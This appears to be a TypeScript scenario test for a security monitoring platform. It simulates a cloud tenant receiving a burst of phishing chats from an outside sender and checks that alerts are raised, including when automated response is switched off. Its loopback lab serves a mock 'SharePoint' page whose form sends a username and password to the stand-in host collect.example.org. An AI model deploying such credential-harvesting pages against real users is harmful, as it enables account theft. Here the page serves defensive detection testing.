import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync } from "node:fs";
import { DAY, HOUR, MINUTE } from "../../base/time.ts";
import { downloadLine, signInLine } from "./chat-lines.ts";
import { CHAT_PAGES, tellChatPages } from "./chat-pages.ts";
import { CHAT_RECORDS, tellChatRecords } from "./chat-records.ts";
import { type ChatTold, LANDING, later, live, RESIDENT, TRAVELLER } from "./chat-told.ts";
import { CHAT_USERS, tellChatUsers } from "./chat-users.ts";
import { FedLife } from "./fed-life.ts";
import { OutsideLab } from "./outside-lab.ts";
import type { StoryBrowser } from "./story-browser.ts";
import { StoryPlatform } from "./story-platform.ts";
import type { Table } from "./table.ts";

export const CHAT_ROWS: readonly string[] = [...CHAT_RECORDS, ...CHAT_PAGES, ...CHAT_USERS, "D2"];
const DAY_OF_ATTACK = 4;
const FIRST = 600;
const SECOND = 780;
export function chatLife(): FedLife {
  return new FedLife({
    seed: 12,
    people: 28,
    days: 6,
    start: "2026-03-02",
    lanes: ["cloud"],
    attacks: [
      ["teams-burst", DAY_OF_ATTACK, FIRST],
      ["teams-burst:sender=stranger", DAY_OF_ATTACK, SECOND],
    ],
  });
}

/** The second post: four days of a tenant are learned, then a stranger writes to 21 people; the outside is on loopback. */
export async function tellChat(table: Table, say: (line: string) => void, browser: StoryBrowser | string): Promise<void> {
  say("a tenant of 28 people: four days of audit records, then chats from another tenant");
  const life = chatLife();
  const lab = await new OutsideLab().open();
  const platform = new StoryPlatform(life.world.calendar.start, say);
  try {
    const told = await playChat(life, platform, lab);
    await tellChatRecords(table, told);
    if (typeof browser === "string") table.skip(CHAT_PAGES, browser);
    else {
      await tellChatPages(table, told, browser);
      await browser.leave();
    }
    await tellChatUsers(table, told);
    await tellWithoutResponse(table, told, say);
  } finally {
    await platform.close();
    await lab.close();
  }
}

export async function playChat(life: FedLife, platform: StoryPlatform, lab: OutsideLab): Promise<ChatTold> {
  const [first, second] = life.truth;
  if (first === undefined || second === undefined) throw new Error("the bursts were not played");
  const address = /from (\S+) \(/.exec(first.what)?.[1] ?? "";
  const topic = /"(.+)"/.exec(first.what)?.[1] ?? "";
  mkdirSync(platform.path("exports"));
  platform.put("org.yaml", life.organisation);
  platform.put("wonted.yaml", await outsideOf(platform, lab, first.host ?? "", address, topic));
  await platform.start();
  const { tenantId } = life.world.organisation;
  const domain = life.world.organisation.domain;
  const usual = [TRAVELLER, RESIDENT, ...["place", "volume", "both"].map((name) => ({ name, usual: TRAVELLER.usual }))];
  for (const who of usual)
    for (let day = 0; day < DAY_OF_ATTACK; day++)
      for (const hour of [9, 11, 14, 16]) {
        const at = life.at(day, hour * 60);
        later(at, "story-usual.ndjson", signInLine(tenantId, at, `${who.name}@${domain}`, who.usual));
        if (hour < 12) later(at, "story-usual.ndjson", downloadLine(tenantId, at + MINUTE, `${who.name}@${domain}`, who.usual, day));
      }
  await live(life, platform, life.at(DAY_OF_ATTACK, FIRST - 30), HOUR);
  await live(life, platform, life.at(DAY_OF_ATTACK, FIRST + 30), MINUTE);
  return { life, platform, lab, first, second, address, topic };
}

/** The outside on loopback: names, a proxy, the pages behind the links, and a feed that knows the sender's address. Answers the configuration. */
async function outsideOf(platform: StoryPlatform, lab: OutsideLab, host: string, address: string, topic: string): Promise<string> {
  const pem = certificate(platform);
  const names = await lab.names(
    new Map([
      [host, [["11.0.0.1"]]],
      [LANDING, [["11.0.0.2"]]],
    ]),
  );
  await lab.secureWeb("11.0.0.1:443", pem, (_request, answer) => answer.writeHead(302, { location: `https://${LANDING}/in` }).end());
  await lab.secureWeb("11.0.0.2:443", pem, (_request, answer) =>
    answer
      .setHeader("content-type", "text/html")
      .end(`<title>${topic} - SharePoint</title><h1>${topic}</h1><form action="https://collect.example.org/p"><input name=u><input type=password></form>`),
  );
  const feed = await lab.feed(pem, `[ipv4-addr:value = '${address}']`, "seen in phishing by chat");
  return `version: 1
organisation: org.yaml
sources:
  - {id: tenant, kind: cloud, path: exports}
links:
  proxy: ${lab.proxy}
  nameServers: ["${names}"]
  registry: false
intelligence:
  - {id: partner, kind: taxii, url: "${feed}", caFile: authority.pem}
`;
}

function certificate(platform: StoryPlatform): { key: string; cert: string } {
  const [key, cert] = [platform.path("key.pem"), platform.path("authority.pem")];
  const args = [
    "req",
    "-x509",
    "-newkey",
    "ec",
    "-pkeyopt",
    "ec_paramgen_curve:P-256",
    "-nodes",
    "-days",
    "30",
    "-subj",
    "/CN=localhost",
    "-addext",
    "subjectAltName=DNS:localhost",
  ];
  execFileSync("openssl", [...args, "-keyout", key, "-out", cert], { stdio: "ignore" });
  return { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") };
}

/** The same records, a platform whose response is off and that no feed tells anything. */
async function tellWithoutResponse(table: Table, { life, platform, first }: ChatTold, say: (line: string) => void): Promise<void> {
  await table.check("D2", "with response off in the configuration the alert stands, and no action is made", async () => {
    const other = new StoryPlatform(life.world.calendar.start, say);
    try {
      mkdirSync(other.path("exports"));
      other.put("org.yaml", life.organisation);
      other.put("wonted.yaml", "version: 1\norganisation: org.yaml\nresponse: {enabled: false}\nsources:\n  - {id: tenant, kind: cloud, path: exports}\n");
      await other.start();
      const again = chatLife();
      for (let day = 0; day < DAY_OF_ATTACK; day++) await again.live(other, again.at(day + 1, 0), DAY);
      await again.live(other, first.end + 10 * MINUTE, HOUR);
      const { alerts } = await other.get<{ alerts: { entity: { id: string }; model: string }[] }>("/api/v1/alerts?state=all&limit=500");
      const { actions } = await other.get<{ actions: unknown[] }>("/api/v1/actions?state=all");
      const { enabled } = await other.get<{ enabled: boolean }>("/api/v1/response");
      const told = alerts.filter((a) => a.entity.id === first.entity);
      return told.length > 0 && actions.length === 0 && !enabled ? `${told.length} alerts on ${first.entity}, 0 actions` : undefined;
    } finally {
      await other.close();
    }
  });
  void platform;
}
